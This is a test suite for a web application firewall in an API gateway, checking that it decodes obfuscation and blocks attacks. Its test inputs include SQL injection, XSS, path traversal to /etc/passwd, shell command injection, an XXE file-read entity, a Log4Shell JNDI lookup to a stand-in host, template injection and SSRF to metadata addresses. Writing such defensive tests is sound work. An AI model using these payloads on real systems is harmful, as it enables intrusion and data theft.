import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import { validator } from '../src/config/ajv.js';
import { WafSchema } from '../src/policies/waf/schema.js';
import { WafEngine } from '../src/waf/engine.js';
import { decodeRepeatedly, pathForm, variants } from '../src/waf/normalize.js';
import { internalHost } from '../src/waf/ssrf.js';
import { accessLineOf } from './helpers/access-log.js';
import { call, startGateway, type TestGateway } from './helpers/gateway.js';
import { startUpstream, type Upstream } from './helpers/upstream.js';

const engine = (extra: Partial<ConstructorParameters<typeof WafEngine>[0]> = {}) =>
  new WafEngine({
    paranoia: 1,
    threshold: 5,
    userRules: [],
    disabledRules: [],
    exclusions: [],
    inspectBody: true,
    maxDecompressedBytes: 1 << 20,
    ...extra,
  });

describe('waf: normalisation', () => {
  it('decodes repeated URL encoding, entities, JS escapes and overlong UTF-8', () => {
    assert.equal(decodeRepeatedly('%253Cscript%253E', false), '<script>');
    assert.equal(
      decodeRepeatedly('&lt;svg/onload&equals;alert&lpar;1&rpar;&gt;', false),
      '<svg/onload=alert(1)>',
    );
    assert.equal(decodeRepeatedly('j&#X41vascript&#0000058', false), 'jAvascript:');
    assert.equal(decodeRepeatedly('\\u0027%2b#{1}', false), "'+#{1}");
    assert.equal(decodeRepeatedly('%C0%AE%C0%AE%C0%AFetc', false), '../etc');
    assert.equal(pathForm('/a/..%5c..%5cwin.ini'), '/a/../../win.ini');
  });
  it('decodes plain base64 text but not binary or ordinary words', () => {
    assert.ok(variants(Buffer.from("' or 1=1 --").toString('base64')).includes("' or 1=1 --"));
    assert.equal(variants('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB').length <= 4, true);
  });
  it('folds comments, whitespace, concatenation and shell quoting', () => {
    const v = variants("/*!UNION*/ /*!SELECT*/ 'ale'+'rt' c'a't /et'c/pa'ss'wd");
    assert.ok(v.some((x) => x.includes('union select')));
    assert.ok(v.some((x) => x.includes('alert')));
    assert.ok(v.some((x) => x.includes('cat /etc/passwd')));
  });
  it('finds internal hosts in any notation', () => {
    for (const h of [
      '127.0.0.1',
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '[::1]',
      '[::ffff:169.254.169.254]',
      'localhost:8080',
      'metadata.google.internal',
      'user@10.0.0.1',
      '10.0.0.1.nip.io',
    ])
      assert.equal(internalHost(h), true, h);
    for (const h of ['example.com', '8.8.8.8', 'hooks.slack.com', '[2001:db8::1]'])
      assert.equal(internalHost(h), false, h);
  });
});

describe('waf: user rules on the linear-time engine', () => {
  const rule = (pattern: string) => ({
    id: 'u1',
    category: 'custom',
    paranoia: 1,
    score: 1,
    description: '',
    pattern,
  });
  it('a user rule RE2 cannot run is a config error naming it', () => {
    assert.throws(
      () => engine({ userRules: [rule('(a)\\1')] }),
      (e: Error) =>
        e.message ===
        'rules/0/pattern: pattern uses a backreference (\\1), which the linear-time engine (RE2) does not support',
    );
  });
  it('a pattern that backtracks catastrophically in V8 is accepted and answers at once', () => {
    const e = engine({ userRules: [rule('^(a|aa)+$'), { ...rule('(\\d|\\w)+$'), id: 'u2' }] });
    const q = (value: string) =>
      e
        .inspect({ method: 'GET', path: '/', rawQuery: `q=${value}`, headers: {} }, undefined)
        .matches.map((m) => m.id);
    // V8 would take longer than the universe has left; RE2 answers (u2 matches a normalised form).
    assert.equal(q(`${'a'.repeat(5000)}!`).includes('u1'), false);
    assert.deepEqual(q('aaaa').sort(), ['u1', 'u2']);
  });
  it('every built-in rule compiles at paranoia 4', () => {
    assert.doesNotThrow(() => engine({ paranoia: 4 }));
  });
});

describe('waf: engine', () => {
  const e = engine();
  const q = (rawQuery: string) => e.inspect({ method: 'GET', path: '/', rawQuery, headers: {} }, undefined);
  it('scores: one warning does not block, a critical does', () => {
    assert.ok(q('q=select+name+from+users').score < 5);
    assert.ok(q("q=1'+union+select+password+from+users--").score >= 5);
  });
  it('passes ordinary text that mentions SQL, shell and HTML words', () => {
    for (const t of [
      "Seán O'Brien",
      'union was a great select',
      'Please drop me a line; select a date',
      'I <b>love</b> it',
      'JavaScript: the basics',
      'echo in the mirror',
    ])
      assert.equal(q(`q=${encodeURIComponent(t)}`).score, 0, t);
  });
  it('exclusions by rule id and parameter name', () => {
    const ex = engine({ exclusions: [{ rules: ['941100'], targets: ['query:html'] }] });
    assert.equal(
      ex.inspect({ method: 'GET', path: '/', rawQuery: 'html=%3Cscript%3E', headers: {} }, undefined).score,
      0,
    );
    assert.ok(
      ex.inspect({ method: 'GET', path: '/', rawQuery: 'other=%3Cscript%3E', headers: {} }, undefined)
        .score >= 5,
    );
  });
});

describe('waf: through the gateway', () => {
  let up: Upstream;
  let t: TestGateway;
  const config = (mode: string, extra: Record<string, unknown> = {}) => ({
    services: [{ name: 'echo', targets: [{ url: up.url }] }],
    routes: [
      { name: 'api', service: 'echo', paths: ['/api'] },
      { name: 'cms', service: 'echo', paths: ['/cms'] },
    ],
    policies: [
      {
        name: 'waf',
        mode,
        config: { exclusions: [{ routes: ['cms'], rules: ['xss'], targets: ['body:html'] }], ...extra },
      },
    ],
  });
  before(async () => {
    up = await startUpstream();
    t = await startGateway(config('enforce'));
  });
  after(async () => {
    await t.stop();
    await up.close();
  });

  const post = (path: string, body: string, ct = 'application/json', headers: Record<string, string> = {}) =>
    call(`${t.url}${path}`, { method: 'POST', headers: { 'content-type': ct, ...headers }, body });

  it('blocks with 403 and a stable code; rule ids only in the log', async () => {
    const r = await call(`${t.url}/api/items?id=1%27%20OR%20%271%27=%271`);
    assert.equal(r.status, 403);
    assert.equal(r.json.error.code, 'PCS_ERR_WAF_BLOCKED');
    assert.doesNotMatch(r.text, /942|sqli|score/);
    const line = await accessLineOf(t.access, r);
    assert.ok(JSON.stringify(line).includes('942110'));
  });
  it('inspects JSON at every depth, keys included (NoSQL operators)', async () => {
    assert.equal(
      (await post('/api/x', JSON.stringify({ a: { b: [{ c: 'x<script>alert(1)</script>' }] } }))).status,
      403,
    );
    assert.equal((await post('/api/x', JSON.stringify({ user: { $ne: null } }))).status, 403);
    assert.equal(
      (await post('/api/x', JSON.stringify({ name: "Seán O'Brien", note: 'select a size, drop the rest' })))
        .status,
      200,
    );
  });
  it('inspects urlencoded, multipart, XML and text bodies', async () => {
    assert.equal(
      (await post('/api/f', 'a=1&cmd=%3Bcat%20%2Fetc%2Fpasswd', 'application/x-www-form-urlencoded')).status,
      403,
    );
    const mp = '--b1\r\nContent-Disposition: form-data; name="f"\r\n\r\n{{7*7}}\r\n--b1--\r\n';
    assert.equal((await post('/api/m', mp, 'multipart/form-data; boundary=b1')).status, 403);
    assert.equal(
      (
        await post(
          '/api/x',
          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
          'application/xml',
        )
      ).status,
      403,
    );
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, not a template
    assert.equal((await post('/api/t', '${jndi:ldap://x.example/a}', 'text/plain')).status, 403);
  });
  it('inspects headers, user agent, cookies and base64 values', async () => {
    assert.equal((await call(`${t.url}/api/h`, { headers: { 'user-agent': 'sqlmap/1.7' } })).status, 403);
    assert.equal(
      (await call(`${t.url}/api/h`, { headers: { cookie: 'sid=abc; pref=..%2f..%2fetc%2fpasswd' } })).status,
      403,
    );
    const b64 = Buffer.from("1' UNION SELECT password FROM users--").toString('base64');
    assert.equal((await call(`${t.url}/api/h`, { headers: { 'x-data': b64 } })).status, 403);
    assert.equal(
      (await call(`${t.url}/api/h`, { headers: { referer: 'https://www.example.com/?q=hello' } })).status,
      200,
    );
  });
  it('SSRF in any encoding, encoded traversal and CRLF in the path', async () => {
    assert.equal(
      (await post('/api/hook', JSON.stringify({ url: 'http://0x7f000001:8080/admin' }))).status,
      403,
    );
    assert.equal(
      (await post('/api/hook', JSON.stringify({ url: 'http://[::ffff:a9fe:a9fe]/latest/meta-data' }))).status,
      403,
    );
    assert.equal(
      (await post('/api/hook', JSON.stringify({ url: 'https://hooks.slack.com/services/T0/B0/x' }))).status,
      200,
    );
    assert.equal((await call(`${t.url}/api/%252e%252e%252fetc%252fpasswd`)).status, 403);
    // CRLF in the path never reaches the WAF: path normalisation refuses encoded control characters.
    const crlf = await call(`${t.url}/api/x%0d%0aSet-Cookie:%20a=b`);
    assert.equal(crlf.status, 400);
    assert.equal(crlf.json.error.code, 'PCS_ERR_PATH_REJECTED');
  });
  it('a body that lies about its Content-Encoding is a protocol anomaly; real gzip is inspected', async () => {
    assert.equal(
      (await post('/api/z', 'cmd=ls', 'application/x-www-form-urlencoded', { 'content-encoding': 'gzip' }))
        .status,
      403,
    );
    const gz = gzipSync(JSON.stringify({ q: '<script>alert(1)</script>' }));
    const r = await call(`${t.url}/api/z`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: gz,
    });
    assert.equal(r.status, 403);
  });
  it('per-route exclusion by category and parameter', async () => {
    assert.equal(
      (await post('/cms/page', JSON.stringify({ html: '<img src=x onerror=alert(1)>' }))).status,
      200,
    );
    assert.equal(
      (await post('/cms/page', JSON.stringify({ title: '<img src=x onerror=alert(1)>' }))).status,
      403,
    );
    assert.equal(
      (await post('/api/page', JSON.stringify({ html: '<img src=x onerror=alert(1)>' }))).status,
      403,
    );
  });
  it('shadow records would_deny and lets the request through; off does nothing', async () => {
    for (const mode of ['shadow', 'off']) {
      const g = await startGateway(config(mode));
      try {
        const r = await call(`${g.url}/api/items?q=%3Cscript%3Ealert(1)%3C/script%3E`);
        assert.equal(r.status, 200, mode);
        const logged = JSON.stringify(await accessLineOf(g.access, r));
        if (mode === 'shadow') assert.match(logged, /would_deny/);
        else assert.doesNotMatch(logged, /would_deny/);
      } finally {
        await g.stop();
      }
    }
  });
  it('the upstream receives the buffered body unchanged', async () => {
    const body = '{"text":"ordinary ✓ text","n":12345678901234567890}';
    const r = await post('/api/echo', body);
    assert.equal(r.status, 200);
    assert.equal(r.json.body, body);
  });
});

describe('waf: schema', () => {
  const valid = validator(WafSchema);
  it('accepts the documented fields and refuses unknown keys', () => {
    assert.equal(
      valid({
        paranoia: 2,
        threshold: 10,
        rules: [{ id: 'x', category: 'custom', pattern: 'foo', score: 5 }],
        exclusions: [{ rules: ['942100'], targets: ['query:q'] }],
      }),
      true,
    );
    assert.equal(valid({ paranoia: 5 }), false);
    assert.equal(valid({ blockAll: true }), false);
  });
});
